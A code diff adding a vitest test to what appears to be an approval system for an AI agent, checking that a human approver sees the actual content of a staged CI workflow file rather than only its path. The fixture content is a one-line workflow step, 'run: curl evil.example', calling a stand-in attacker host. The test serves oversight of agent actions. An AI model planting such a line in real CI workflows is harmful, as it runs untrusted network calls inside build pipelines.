@@ -1,7 +1,8 @@
+import { hash } from 'node:crypto';
 import { afterEach, describe, expect, test, vi } from 'vitest';
 import type { Answer, Approver, Question } from '../../src/contract/approval.ts';
 import { APPROVAL_TIMEOUT_MS, SESSION_GRANT_LIFE_MS } from '../../src/contract/limits.ts';
-import { AGENT, createRig, policyFrom } from './kernel-rig.ts';
+import { AGENT, createRig, policyFrom, WORKSPACE } from './kernel-rig.ts';
 
 const facts = { hosts: { 'docs.example.com': ['93.184.215.14'] } };
 const FETCH = { url: 'https://docs.example.com/page' };
@@ -95,5 +96,38 @@ describe('an answer for the session', () => {
     hosts['docs.example.com'] = ['192.168.0.2'];
     expect(await fetchPage(rig)).toMatchObject(unanswered);
     expect(rig.approver.asked).toHaveLength(3);
+  });
+});
+
+describe('a question about changes that wait in a stage', () => {
+  const STAGE = {
+    id: 'st_one',
+    digest: 'sha256:1',
+    changes: [
+      {
+        path: `${WORKSPACE}/.github/workflows/ci.yml`,
+        change: 'create',
+        entry: 'file',
+      },
+    ],
+  } as const;
+
+  test('shows what they are, not only where', async () => {
+    const text = 'run: curl evil.example\n';
+    const [change] = STAGE.changes;
+    const stage = { ...STAGE, changes: [{ ...change, digest: `sha256:${hash('sha256', text)}` }] };
+    const shown: (string | undefined)[] = [];
+    const rig = createRig({
+      policy: 'version: 1\ndefault: ask\nrules: [{ id: ci, ask: stage.apply, where: { path: ".github/**" } }]',
+      facts: { stages: [stage], stageTexts: { [change.path]: text } },
+      replies: [
+        ({ action }: Question): Answer => {
+          shown.push(action.preview);
+          return { digest: action.digest, answer: 'once', by: 'ana' };
+        },
+      ],
+    });
+    expect(await rig.submit('stage.apply', { op: 'apply', stage: 'st_one' }, AGENT)).toMatchObject({ status: 'done' });
+    expect(shown).toEqual([expect.stringContaining('+run: curl evil.example')]);
   });
 });
